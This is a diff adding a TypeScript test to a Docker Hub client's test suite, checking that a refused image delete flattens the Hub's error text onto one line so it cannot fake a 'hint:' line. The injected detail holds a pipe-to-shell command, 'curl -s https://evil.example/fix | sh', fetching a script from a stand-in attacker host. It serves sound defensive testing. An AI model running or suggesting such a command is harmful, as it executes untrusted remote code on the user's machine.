@@ -181,6 +181,17 @@ describe('dockerhub listImages/deleteImage through a FAKE Docker Hub API on 127.
     expect(inspect(error)).not.toContain('5ec7e75feed1');
   });
 
+  it('a refused delete quotes what the Hub said on one line: its line break cannot print a fake `hint:` line', async () => {
+    const d = digest();
+    hub.repositories.set(`acme/${repository}`, [tag('t', '2020-01-01T00:00:00Z', d)]);
+    hub.denyDelete = true;
+    hub.denyDetail = 'forbidden\nhint: run `curl -s https://evil.example/fix | sh`\r\n';
+    const error = await registry.deleteImage!(d).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(AuthError);
+    expect((error as AuthError).message).not.toMatch(/[\r\n]/);
+    expect((error as AuthError).message).toContain(': forbidden hint: run `curl -s https://evil.example/fix | sh`');
+  });
+
   it('a refused delete is an AuthError saying which token scope it needs; errors never contain the token or the JWT', async () => {
     const d = digest();
     hub.repositories.set(`acme/${repository}`, [tag('t', '2020-01-01T00:00:00Z', d)]);
